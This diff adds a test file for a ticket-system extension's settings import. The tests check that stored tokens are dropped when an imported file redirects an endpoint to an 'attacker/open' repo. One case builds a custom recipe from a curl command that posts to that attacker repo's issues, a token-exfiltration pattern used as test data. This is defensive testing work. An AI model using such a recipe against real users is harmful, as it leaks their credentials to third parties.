@@ -1,0 +1,82 @@
+/** A settings file that somebody else wrote: what is stored here for a ticket system is not lent to what the file makes of it. */
+import 'fake-indexeddb/auto';
+import { beforeEach, expect, it } from 'vitest';
+import { fakeBrowser } from 'wxt/testing/fake-browser';
+import { readCurl } from '../../../utils/recipes/editor/curl.ts';
+import { recipeOf } from '../../../utils/recipes/editor/from-request.ts';
+import { clearPrivate } from '../../../utils/settings/database.ts';
+import { emptySettings, type OwnRecipe } from '../../../utils/settings/schema.ts';
+import { findConnection } from '../../../utils/worker/connection.ts';
+import { settingsAnswers } from '../../../utils/worker/settings-answers.ts';
+
+const handlers = settingsAnswers({ settingsChanged: async () => {} });
+const sender = undefined as never;
+const managed = { get: async () => ({}) };
+const endpoint = {
+  id: 'desk',
+  name: 'Desk',
+  recipe: 'github',
+  values: { url: 'https://api.github.com', repo: 'us/tickets' },
+  defaults: {},
+};
+const secrets = { token: 'ours' };
+
+const importing = (document: object) => handlers['settings.imported']({ document: { ...emptySettings, ...document } as never }, sender);
+const stored = async () => (await findConnection('desk'))?.secrets;
+
+/** Writes the token into a ticket. */
+function curious(): OwnRecipe {
+  const { request } = readCurl(`curl https://api.github.com/repos/attacker/open/issues -H 'X-Key: x' -d '{"title":"x"}'`);
+  if (request === undefined) throw new Error('Nothing was read');
+  return { ...(recipeOf(request, []).document as OwnRecipe), id: 'my-curious' };
+}
+
+beforeEach(async () => {
+  fakeBrowser.reset();
+  await clearPrivate();
+  Object.assign(fakeBrowser.storage.local, { setAccessLevel: async () => {} });
+  Object.assign(fakeBrowser.storage, { managed });
+  await handlers['endpoint.saved']({ endpoint, secrets }, sender);
+  expect(await stored()).toEqual(secrets);
+});
+
+it('keeps the credentials of a system that it leaves as it was', async () => {
+  await importing({ endpoints: [{ ...endpoint, name: 'Another name', defaults: { queue: { id: '1', label: 'Support' } } }] });
+  expect(await stored()).toEqual(secrets);
+});
+
+it.each<[string, () => object]>([
+  ['another place on the same host', () => ({ endpoints: [{ ...endpoint, values: { ...endpoint.values, repo: 'attacker/open' } }] })],
+  ['another recipe for the same host', () => ({ endpoints: [{ ...endpoint, recipe: 'my-curious', values: {} }], recipes: [curious()] })],
+])('takes them away where it leads to %s', async (_, document) => {
+  await importing(document());
+  expect(await stored()).toEqual({});
+});
+
+it('does not find them in a second file, after a first one without the system', async () => {
+  await importing({ endpoints: [] });
+  await importing({ endpoints: [{ ...endpoint, values: { ...endpoint.values, repo: 'attacker/open' } }] });
+  expect(await stored()).toEqual({});
+});
+
+it('brings its own', async () => {
+  const moved = { ...endpoint, values: { ...endpoint.values, repo: 'us/other' } };
+  await importing({ endpoints: [moved], secrets: { desk: { token: 'theirs' } } });
+  expect(await stored()).toEqual({ token: 'theirs' });
+});
+
+it('changes no credential where it is refused', async () => {
+  const twice = [endpoint, { ...endpoint, name: 'Twice' }];
+  await expect(importing({ endpoints: twice, secrets: { desk: { token: 'theirs' } } })).rejects.toMatchObject({ code: 'bad-settings' });
+  expect(await stored()).toEqual(secrets);
+});
+
+it('touches no credential of a system that the administrator set', async () => {
+  Object.assign(fakeBrowser.storage, { managed: { get: async () => ({ endpoints: [endpoint] }) } });
+  const moved = { ...endpoint, values: { ...endpoint.values, repo: 'attacker/open' } };
+  await importing({ endpoints: [moved] });
+  expect(await findConnection('desk')).toMatchObject({ values: endpoint.values, secrets });
+  // A person's own export, brought to another computer.
+  await importing({ endpoints: [moved], secrets: { desk: { token: 'mine' } } });
+  expect(await findConnection('desk')).toMatchObject({ values: endpoint.values, secrets: { token: 'mine' } });
+});
